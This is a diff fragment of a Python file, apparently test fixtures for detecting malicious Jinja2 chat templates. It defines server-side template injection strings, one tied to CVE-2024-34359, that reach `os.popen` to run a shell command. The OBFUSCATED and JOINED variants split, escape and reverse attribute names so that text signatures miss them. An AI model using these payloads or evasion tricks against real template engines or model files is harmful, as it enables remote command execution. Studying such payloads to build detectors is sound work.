@@ -122,9 +122,9 @@ CVE_2024_34359 = ("{% for x in ().__class__.__base__.__subclasses__() %}{% if \"
                   "{{x()._module.__builtins__['__import__']('os').popen(\"" + CMD + "\").read()}}"
                   "{%endif%}{% endfor %}")
 # Names built from pieces and escapes: nothing a text signature sees as `__globals__`.
-OBFUSCATED = ("{{ cycler|attr('__in' ~ 'it__')|attr('\\x5f\\x5fglo' ~ 'bals\\x5f\\x5f')"
-              "|attr('\\x5f\\x5fgeti' + 'tem\\x5f\\x5f')('o' ~ 's')|attr('po' + 'pen')('" + CMD + "')"
-              "|attr('read')() }}" + CHATML)
+OBFUSCATED = ("{{ (((cycler|attr('__in' ~ 'it__')|attr('\\x5f\\x5fglo' ~ 'bals\\x5f\\x5f')"
+              "|attr('\\x5f\\x5fgeti' + 'tem\\x5f\\x5f'))('o' ~ 's')|attr('po' + 'pen'))('" + CMD + "')"
+              "|attr('read'))() }}" + CHATML)
 JOINED = ("{%- set g = ['__gl', 'obals__']|join -%}{%- set b = ('__snitliub__'|reverse) -%}"
           "{%- for message in messages %}{{ message.content }}{% endfor -%}"
           "{{ (lipsum|attr(g))[b]['__imp' ~ 'ort__']('o' ~ 's')|attr('%c%c%c%c%c' % (112, 111, 112, 101, 110))('" + CMD + "') }}")
